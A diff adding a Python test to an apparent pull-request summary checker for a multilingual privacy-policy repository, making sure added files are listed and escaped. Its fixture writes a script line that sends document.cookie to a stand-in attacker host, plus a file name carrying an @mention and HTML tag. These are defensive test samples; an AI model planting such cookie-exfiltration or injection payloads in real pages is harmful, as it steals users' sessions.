@@ -249,3 +249,25 @@ def test_escaped_text_reads_as_written():
     html = render(md_escape(value) + "\n")
     assert html == ("<p>a*b*_c_ `d` [e](f) ![g](h) &lt;i&gt;&amp;amp; ~~j~~ | k \\ l "
                     "@\u200bm #\u200b2 mail@example.com</p>\n")
+
+
+def test_files_the_clause_comparison_does_not_read_are_listed_not_passed_over(tmp_path, github):
+    # What a pull request could publish beside the policy, unseen by a clause-by-clause summary: a page
+    # that does not read as an article, a script, a language the summary does not compare.
+    def publish_beside_the_policy(repo: Path) -> None:
+        (repo / "docs/ja/articles/08.md").write_text("# 補足\n\n本ポリシーは適用されません。\n", encoding="utf-8")
+        (repo / "docs/ja/track.js").write_text("fetch('https://evil.example/?' + document.cookie)\n",
+                                               encoding="utf-8")
+        (repo / "docs/ko").mkdir()
+        (repo / "docs/ko/index.md").write_text("# 개인정보 처리방침\n", encoding="utf-8")
+        (repo / "docs/ja/@octocat <b>.md").write_text("# x\n", encoding="utf-8")
+
+    origin, make_pr = github
+    head = make_pr(publish_beside_the_policy)
+    _work, runner = run_trusted_job(tmp_path, origin, head)
+    summary = (runner / "summary" / "summary.md").read_text(encoding="utf-8")
+    assert NO_CHANGE not in summary
+    for path in ("docs/ja/articles/08.md", "docs/ja/track.js", "docs/ko/index.md", "docs/ja/@octocat <b>.md"):
+        assert f"- 追加 / added: `{path}`" in summary, path
+    html = render(summary)
+    assert "<b>" not in html and mentions(outside_code(html)) == []
